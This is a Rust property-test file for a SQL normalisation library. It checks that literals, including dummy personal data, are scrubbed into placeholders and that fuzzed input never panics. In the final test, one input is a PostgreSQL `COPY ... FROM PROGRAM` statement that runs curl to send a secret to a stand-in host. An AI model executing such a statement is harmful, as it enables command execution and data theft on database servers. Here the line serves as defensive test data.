//! The audit text: no literal of any kind survives normalisation, for text
//! that parses (`normalized`) and for text that does not (`scrub_literals`).

use periscope_sql::{AnalyzeOptions, SqlDialect, analyze, fingerprint, scrub_literals};
use proptest::prelude::*;

/// Literal content: quotes, backslashes, dollars, semicolons, comment markers,
/// newlines and non-ASCII text, everything that could confuse a lexer.
fn content() -> impl Strategy<Value = String> {
    proptest::collection::vec(
        prop_oneof![
            proptest::char::range('a', 'z'),
            proptest::char::range('0', '9'),
            Just('\''),
            Just('"'),
            Just('\\'),
            Just('$'),
            Just(';'),
            Just('-'),
            Just('/'),
            Just('*'),
            Just(' '),
            Just('\n'),
            Just('@'),
            Just('é'),
            Just('中'),
            Just('🎉'),
        ],
        1..24,
    )
    .prop_map(|v| v.into_iter().collect())
}

/// One literal of some kind, rendered as SQL.
fn literal() -> impl Strategy<Value = String> {
    prop_oneof![
        content().prop_map(|s| format!("'{}'", s.replace('\'', "''"))),
        content().prop_map(|s| {
            let safe: String = s.chars().filter(|c| *c != '\\').collect();
            format!("E'{}'", safe.replace('\'', "\\'"))
        }),
        content().prop_map(|s| format!("$$x{}$$", s.replace('$', "")).replace("$$x", "$$")),
        content().prop_map(|s| format!("$tag${}$tag$", s.replace('$', ""))),
        any::<u64>().prop_map(|n| n.to_string()),
        (any::<u32>(), any::<u16>()).prop_map(|(a, b)| format!("{a}.{b}")),
        (any::<u16>(), 0i32..30).prop_map(|(a, e)| format!("{a}e-{e}")),
        proptest::collection::vec(prop_oneof![Just('0'), Just('1')], 1..16)
            .prop_map(|v| format!("B'{}'", v.into_iter().collect::<String>())),
        proptest::collection::vec(proptest::char::range('a', 'f'), 1..16)
            .prop_map(|v| format!("X'{}'", v.into_iter().collect::<String>())),
    ]
}

const TEMPLATES: &[&str] = &[
    "SELECT {} FROM customers WHERE email = {}",
    "SELECT id FROM customers WHERE ssn IN ({}, {}) ORDER BY id",
    "INSERT INTO orders (status, total) VALUES ({}, {})",
    "UPDATE customers SET notes = {} WHERE phone LIKE {}",
    "SELECT upper({}) || {}",
    "SELECT CASE WHEN id > {} THEN 'a' END, {} FROM customers",
];

fn fill(template: &str, a: &str, b: &str) -> String {
    template.replacen("{}", a, 1).replacen("{}", b, 1)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn normalized_text_is_the_template_with_placeholders(
        t in 0..TEMPLATES.len(),
        a in literal(),
        b in literal(),
        comment in content(),
    ) {
        let template = TEMPLATES[t];
        let comment: String = comment.chars().filter(|c| !matches!(c, '*' | '/')).collect();
        let sql = format!("{} /* {comment} */", fill(template, &a, &b));
        let analysis = analyze(&sql, &crate::common::catalog(), &AnalyzeOptions::default())
            .map_err(|e| TestCaseError::fail(format!("{sql}: {e}")))?;
        let st = &analysis.statements[0];
        let expected = fill(template, "?", "?").replace("'a'", "?");
        prop_assert_eq!(&st.normalized, &expected);
        prop_assert_eq!(st.fingerprint, fingerprint(&expected));
    }

    #[test]
    fn scrubbing_unparseable_text_hides_every_literal(
        a in literal(),
        b in literal(),
        tail in content(),
    ) {
        // Not SQL the parser accepts, yet its literals must not leak.
        let sql = format!("SELEKT {a} FRM {b} WHERE x = '{}", tail.replace('\'', ""));
        let scrubbed = scrub_literals(&sql, SqlDialect::PostgreSql);
        prop_assert_eq!(scrubbed, "SELEKT ? FRM ? WHERE x = ?");
    }

    #[test]
    fn arbitrary_input_never_panics(s in "\\PC{0,200}") {
        let _ = analyze(&s, &crate::common::catalog(), &AnalyzeOptions::default());
        let _ = scrub_literals(&s, SqlDialect::PostgreSql);
    }

    #[test]
    fn sql_shaped_noise_never_panics(
        tokens in proptest::collection::vec(
            prop_oneof![
                Just("SELECT"), Just("FROM"), Just("WHERE"), Just("("), Just(")"), Just(","),
                Just("customers"), Just("email"), Just("c.*"), Just("*"), Just("JOIN"),
                Just("ON"), Just("USING"), Just("UNION"), Just("WITH"), Just("AS"), Just("x"),
                Just("LATERAL"), Just("row_to_json"), Just("'lit'"), Just("1"), Just("="),
                Just("||"), Just(";"), Just("VALUES"), Just("RECURSIVE"), Just("$1"),
                Just("::text"), Just("CASE"), Just("WHEN"), Just("THEN"), Just("END"),
                Just("DELETE"), Just("RETURNING"), Just("customer_contacts"), Just("loop_a"),
            ],
            0..40,
        )
    ) {
        let sql = tokens.join(" ");
        let _ = analyze(&sql, &crate::common::catalog(), &AnalyzeOptions::default());
    }
}

#[test]
fn every_literal_kind_is_replaced() {
    let sql = "SELECT 'john@example.com', E'it\\'s 078-05-1120', $$4111 1111 1111 1111$$, \
               $q$DE89 3704 0044 0532 0130 00$q$, 42, 3.14, 1e10, B'1010', X'DEADBEEF', \
               U&'d\\0061t\\+000061', N'nat', interval '2 days' -- +1 555 0100\n";
    let st = crate::common::one(sql);
    assert_eq!(
        st.normalized,
        "SELECT ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, interval ?"
    );
    assert_eq!(scrub_literals(sql, SqlDialect::PostgreSql), st.normalized);
}

#[test]
fn placeholders_identifiers_and_casts_are_kept() {
    let st = crate::common::one(
        "SELECT \"Weird Col\", t1.c2, $1::text FROM pgbench_accounts t1 WHERE aid = $2",
    );
    assert_eq!(
        st.normalized,
        "SELECT \"Weird Col\", t1.c2, $1::text FROM pgbench_accounts t1 WHERE aid = $2"
    );
}

#[test]
fn same_statement_with_other_literals_has_the_same_fingerprint() {
    let a = crate::common::one("SELECT * FROM customers WHERE id = 1");
    let b = crate::common::one("SELECT  *  FROM customers\n WHERE id = 99 -- other");
    assert_eq!(a.normalized, b.normalized);
    assert_eq!(a.fingerprint, b.fingerprint);
    let c = crate::common::one("SELECT * FROM customers WHERE ssn = 1");
    assert_ne!(a.fingerprint, c.fingerprint);
}

#[test]
fn refused_text_can_still_be_scrubbed() {
    // An unterminated literal hides everything after its quote.
    assert_eq!(
        scrub_literals(
            "SELECT * FROM t WHERE ssn = '078-05-1120",
            SqlDialect::PostgreSql
        ),
        "SELECT * FROM t WHERE ssn = ?"
    );
    assert_eq!(
        scrub_literals("SELECT $x$ secret never closed", SqlDialect::PostgreSql),
        "SELECT ?"
    );
    assert_eq!(
        scrub_literals(
            "COPY t FROM PROGRAM 'curl http://x/?t=secret'",
            SqlDialect::PostgreSql
        ),
        "COPY t FROM PROGRAM ?"
    );
}
